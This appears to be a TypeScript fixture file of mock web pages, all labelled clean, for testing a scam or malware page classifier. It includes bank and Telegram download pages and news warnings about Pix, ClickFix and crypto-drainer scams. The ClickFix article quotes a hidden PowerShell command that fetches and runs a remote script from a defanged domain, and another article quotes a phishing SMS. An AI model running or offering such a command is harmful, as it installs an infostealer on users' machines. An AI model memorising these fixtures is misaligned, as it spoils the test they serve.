import type { Entry } from '../entry.js';
import { doc, corpCss, shell, gtag, img, htmlRoute, jsRoute, jsonRoute, cssRoute, apk, pe, fileRoute } from '../parts/u-kit.js';

export const entries: Entry[] = [
{
  id: 'u-clean-bank-apk-huawei-direct-id',
  label: 'clean',
  kind: 'official-app-download',
  url: 'https://www.banknusadigital.co.id/aplikasi/unduh',
  body: doc({
    lang: 'id',
    title: 'Unduh Aplikasi Nusa Mobile | Bank Nusa Digital',
    css: corpCss('#004d99', '#004d99') + 'code{background:#f1f3f5;padding:2px 6px;font-size:12px;word-break:break-all}',
    body: shell({ brand: 'Bank Nusa Digital', logo: 'Bank Nusa Digital', nav: ['Tabungan', 'Kartu', 'Pinjaman', 'Aplikasi', 'Bantuan'], footer: 'PT Bank Nusa Digital Tbk berizin dan diawasi oleh Otoritas Jasa Keuangan dan Bank Indonesia serta merupakan peserta penjaminan LPS. Contact Center 1500 962.', links: ['Syarat & Ketentuan', 'Kebijakan Privasi', 'Keamanan'] })(`<div class="card"><h1>Unduh Nusa Mobile</h1><p>Nusa Mobile tersedia di Google Play, App Store dan Huawei AppGallery. Untuk perangkat tanpa layanan Google, Anda juga dapat mengunduh berkas APK resmi di bawah ini.</p>
<p><a class="btn" href="#">Google Play</a> <a class="btn" href="#">App Store</a> <a class="btn" href="#">AppGallery</a></p>
<h3>Unduh APK langsung</h3><p><a href="/aplikasi/files/nusamobile-5.14.2.apk">nusamobile-5.14.2.apk</a> (42,8 MB) · Android 8.0+ · dirilis 18 November 2026</p>
<p class="muted">SHA-256: <code>9b2f6c1e04d7a8f35c2e9d1b7a44e0c8f3d5b6a9e2c1f0a7b8d9e6c5f4a3b2c1</code><br>Sertifikat penandatangan: CN=PT Bank Nusa Digital Tbk, O=Bank Nusa Digital, C=ID</p></div>
<div class="card alert"><b>Penting:</b> Satu-satunya halaman resmi untuk APK adalah banknusadigital.co.id/aplikasi. Jangan memasang aplikasi yang dikirim melalui WhatsApp (misalnya "undangan", "surat tilang", "resi paket" berformat .apk). Bank Nusa Digital tidak pernah meminta Anda mengaktifkan izin Aksesibilitas.</div>`),
  }),
  routes: {
    'www.banknusadigital.co.id/aplikasi/files/nusamobile-5.14.2.apk': fileRoute(apk('id.co.banknusadigital.mobile', 'Nusa Mobile', ['okhttp3', 'androidx.biometric', 'com.google.firebase.messaging']), 'application/vnd.android.package-archive', 'nusamobile-5.14.2.apk'),
  },
},
{
  id: 'u-clean-telegram-desktop-download',
  label: 'clean',
  kind: 'official-app-download',
  url: 'https://desktop.telegram.org/',
  body: doc({
    lang: 'en',
    title: 'Telegram Desktop',
    css: 'body{margin:0;font-family:"Lucida Grande","Segoe UI",Arial,sans-serif;color:#333;background:#fff}.h{border-bottom:1px solid #e7e7e7;padding:14px 30px;display:flex;gap:20px}.h a{color:#2481cc;text-decoration:none}.m{max-width:640px;margin:50px auto;text-align:center}.b{display:inline-block;background:#2ea6ff;color:#fff;padding:12px 30px;border-radius:22px;text-decoration:none;font-size:15px}.o{font-size:13px;margin-top:14px}.o a{color:#2481cc;margin:0 6px}.f{max-width:640px;margin:60px auto;font-size:12px;color:#999;text-align:center}',
    body: `<div class="h"><b>Telegram</b><a href="#">Home</a><a href="#">FAQ</a><a href="#">Apps</a><a href="#">API</a><a href="#">Protocol</a></div>
<div class="m"><div style="width:120px;height:120px;border-radius:50%;background:#2ea6ff;margin:0 auto 20px"></div><h1>Telegram Desktop</h1><p>Fast and secure desktop app, perfectly synced with your mobile phone.</p>
<a class="b" href="/dl/tsetup-x64.5.8.3.exe">Get Telegram for Windows x64</a>
<div class="o"><a href="#">Portable version</a> · <a href="#">Get for Windows 32-bit</a> · <a href="#">macOS</a> · <a href="#">Linux</a></div>
<p style="font-size:13px;color:#888;margin-top:30px">Telegram is available in 30+ languages including Simplified Chinese — choose it in Settings → Language. No third-party "Chinese version" is required.</p></div>
<div class="f">Telegram Desktop is open source — source code on GitHub.</div>`,
  }),
  routes: {
    'desktop.telegram.org/dl/tsetup-x64.5.8.3.exe': fileRoute(pe({ strings: ['Telegram Desktop', 'Telegram FZ-LLC', 'Inno Setup', '5.8.3.0'] }), 'application/octet-stream', 'tsetup-x64.5.8.3.exe'),
  },
},
{
  id: 'u-clean-news-golpe-pix-taxa-correios-ptbr',
  label: 'clean',
  kind: 'scam-warning-news',
  url: 'https://www.gazetadoparana.com.br/economia/2026/11/golpe-da-taxa-dos-correios-volta-a-circular-veja-como-identificar',
  body: doc({
    lang: 'pt-BR',
    title: 'Golpe da "taxa dos Correios" volta a circular; veja como identificar | Gazeta do Paraná',
    head: gtag('G-GZPR2026') + `<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"Golpe da taxa dos Correios volta a circular","datePublished":"2026-11-26T08:30:00-03:00","author":{"@type":"Person","name":"Ana Beatriz Kowalski"}}</script>`,
    css: corpCss('#8b0000', '#8b0000') + 'article{max-width:760px}article p{font-size:17px;line-height:1.7}blockquote{border-left:4px solid #ccc;margin:16px 0;padding:8px 16px;background:#f7f7f7;font-family:monospace;font-size:14px}',
    body: shell({ brand: 'Gazeta', logo: 'Gazeta do Paraná', nav: ['Política', 'Economia', 'Cidades', 'Esportes', 'Assine'], footer: '© 2026 Gazeta do Paraná Comunicação Ltda. Todos os direitos reservados.', links: ['Expediente', 'Política de privacidade', 'Fale conosco'] })(`<article class="card"><h1>Golpe da "taxa dos Correios" volta a circular; veja como identificar</h1><p class="muted">Por Ana Beatriz Kowalski · 26/11/2026 08h30</p>
<p>Com a proximidade da Black Friday, voltou a circular uma mensagem de SMS que informa que uma encomenda está "retida na fiscalização aduaneira" e cobra uma taxa via Pix. A mensagem típica diz:</p>
<blockquote>CORREIOS: Seu objeto BR559017342 foi taxado. Regularize em ate 3 dias uteis para evitar devolucao: https://correios-rastreio.app-taxacao[.]com/objeto</blockquote>
<p>O link leva a uma página que imita o rastreamento dos Correios, exibe um histórico falso e apresenta um QR Code Pix de cerca de R$ 64 em nome de uma empresa intermediária. Segundo a delegacia de crimes cibernéticos, centenas de pessoas caíram no golpe só neste mês.</p>
<p>"Os Correios não cobram taxas por SMS. As cobranças de importação aparecem apenas no Minhas Importações, com login gov.br", explica o especialista em segurança Rafael Nogueira.</p>
<h3>Como se proteger</h3><ul><li>Desconfie de mensagens com prazo curto e ameaça de devolução.</li><li>Confira o beneficiário do Pix antes de pagar.</li><li>Denuncie o número ao 7726 e o site ao CERT.br.</li></ul></article>`),
  }),
},
{
  id: 'u-clean-news-clickfix-powershell-es',
  label: 'clean',
  kind: 'scam-warning-news',
  url: 'https://www.seguridadaldia.com.ar/2026/11/falsos-captcha-powershell-clickfix',
  body: doc({
    lang: 'es-AR',
    title: 'Falsos CAPTCHA piden pegar comandos en Windows: así funciona ClickFix | Seguridad al Día',
    css: corpCss('#0d3b66', '#0d3b66') + 'article p{font-size:17px;line-height:1.7}pre{background:#1e1e1e;color:#dcdcdc;padding:14px;overflow:auto;font-size:13px;border-radius:6px}',
    body: shell({ brand: 'Seguridad al Día', logo: 'Seguridad al Día', nav: ['Noticias', 'Guías', 'Podcast', 'Newsletter'], footer: 'Seguridad al Día · Periodismo sobre ciberseguridad desde Buenos Aires · © 2026', links: ['Quiénes somos', 'Contacto', 'Privacidad'] })(`<article class="card"><h1>Falsos CAPTCHA piden pegar comandos en Windows: así funciona ClickFix</h1><p class="muted">Por Martín Ferreyra · 28 de noviembre de 2026</p>
<p>Investigadores del CERT regional detectaron sitios de noticias comprometidos que muestran una verificación "No soy un robot" falsa. Al hacer clic, la página copia al portapapeles un comando y le pide al visitante que presione <b>Windows + R</b>, pegue con <b>Ctrl + V</b> y presione Enter.</p>
<p>El comando copiado, que analizamos en nuestro laboratorio, tiene esta forma (dominio desactivado):</p>
<pre>powershell -w hidden -nop -c "iex(irm https://cdn-verif.ejemplo-comprometido[.]com.ar/v.ps1)" # ✅ Soy humano - ID de verificación: 8821-CF</pre>
<p>El comentario al final está pensado para que en el cuadro "Ejecutar" sólo se vea el texto tranquilizador. El script descarga un infostealer que roba contraseñas guardadas y billeteras de criptomonedas.</p>
<p><b>Ningún CAPTCHA legítimo</b> te pide ejecutar comandos. Si ya lo hiciste, desconectá el equipo de la red y cambiá tus contraseñas desde otro dispositivo.</p></article>`),
  }),
},
{
  id: 'u-clean-news-airdrop-drainer-ko',
  label: 'clean',
  kind: 'scam-warning-news',
  url: 'https://www.blockpost.co.kr/news/articleView.html?idxno=48213',
  body: doc({
    lang: 'ko',
    title: '"시즌2 에어드랍" 사칭 드레이너 사이트 기승…지갑 연결 주의 | 블록포스트',
    css: corpCss('#111', '#3b82f6') + 'article p{font-size:17px;line-height:1.8}code{background:#f1f1f1;padding:2px 6px}',
    body: shell({ brand: '블록포스트', logo: 'BLOCKPOST', nav: ['뉴스', '마켓', '정책', '리서치'], footer: '(주)블록포스트 · 서울특별시 강남구 테헤란로 152 · 등록번호 서울 아54321 · 청소년보호책임자 김지훈', links: ['회사소개', '기사제보', '개인정보처리방침'] })(`<article class="card"><h1>"시즌2 에어드랍" 사칭 드레이너 사이트 기승…지갑 연결 주의</h1><p class="muted">입력 2026.11.28 10:12 · 이서연 기자</p>
<p>유명 프로젝트의 "시즌2 에어드랍 클레임"을 사칭한 피싱 사이트가 텔레그램과 X(옛 트위터)를 통해 확산되고 있다. 이용자가 "자격 확인" 버튼을 누르면 지갑 연결 후 USDT·USDC에 대한 무제한 승인(<code>approve</code>) 트랜잭션과 잔액 전송 트랜잭션이 연달아 요청된다.</p>
<p>보안업체 관계자는 "승인 금액이 <code>ffff…</code>로 가득 찬 무제한 승인이거나, 서명 요청에 <code>Permit</code>이라는 단어가 보이면 즉시 거부해야 한다"며 "공식 채널에서 공지된 도메인인지 반드시 확인하라"고 조언했다.</p>
<p>이미 승인을 했다면 revoke.cash 등의 도구로 승인을 취소하고, 남은 자산을 새 지갑으로 옮기는 것이 좋다.</p></article>`),
  }),
},
];
